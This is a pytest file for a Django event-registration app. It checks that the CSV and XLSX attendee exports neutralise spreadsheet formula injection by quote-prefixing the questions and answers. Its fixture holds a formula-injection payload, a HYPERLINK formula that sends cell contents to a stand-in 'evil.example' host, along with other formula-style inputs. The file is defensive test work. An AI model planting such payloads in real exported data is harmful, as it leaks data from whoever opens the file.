"""The attendee export (CSV, XLSX): questions and answers never open as formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from cairn.accounts.factories import UserFactory
from cairn.accounts.tests.helpers import make_user
from cairn.events.services.events import event_create
from cairn.events.services.registrations import registration_register

pytestmark = pytest.mark.django_db

QUESTION = '=HYPERLINK("https://evil.example/?d="&A2,"Régime")'
ANSWERS = ["+33 6 12 34 56 78", "@SUM(1,1)", "-végétarien", "=1+1"]  # stored stripped: tabs and CRs in cairn/core


@pytest.fixture
def export(client: Client):
    organiser = make_user("facilitator")
    event = event_create(
        actor=organiser,
        title="Atelier",
        address="Rue Coenraets 72",
        city="Bruxelles",
        capacity=10,
        questions=[QUESTION, "Allergies"],
        starts_at=timezone.now() + dt.timedelta(days=5),
        ends_at=timezone.now() + dt.timedelta(days=5, hours=2),
    )
    for number, answer in enumerate(ANSWERS):
        user = UserFactory(email=f"p{number}@x.be", profile__display_name=f"=Personne {number}")
        registration_register(event=event, user=user, answers={QUESTION: answer, "Allergies": "aucune"})
    client.force_login(organiser)
    return lambda fmt: client.get(f"/fr/evenements/{event.pk}/inscrits/export.{fmt}").content


def test_the_csv_export_neutralises_the_questions_and_the_answers(export) -> None:
    rows = list(csv.reader(io.StringIO(export("csv").decode("utf-8-sig"))))

    assert rows[0] == ["Nom", "E-mail", "État", "Inscrit·e le", "Présent·e", "'" + QUESTION, "Allergies"]
    assert sorted((row[0], row[5], row[6]) for row in rows[1:]) == sorted(
        (f"'=Personne {n}", "'" + answer, "aucune") for n, answer in enumerate(ANSWERS)
    )


def test_the_xlsx_export_has_no_formula_and_keeps_the_text(export) -> None:
    sheet = load_workbook(io.BytesIO(export("xlsx")))["Inscrits"]
    rows = [list(row) for row in sheet.iter_rows()]

    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
    assert [cell.value for cell in rows[0]] == ["Nom", "E-mail", "État", "Inscrit·e le", "Présent·e", "'" + QUESTION, "Allergies"]
    assert sorted((row[0].value, row[5].value) for row in rows[1:]) == sorted(
        (f"'=Personne {n}", "'" + answer) for n, answer in enumerate(ANSWERS)
    )
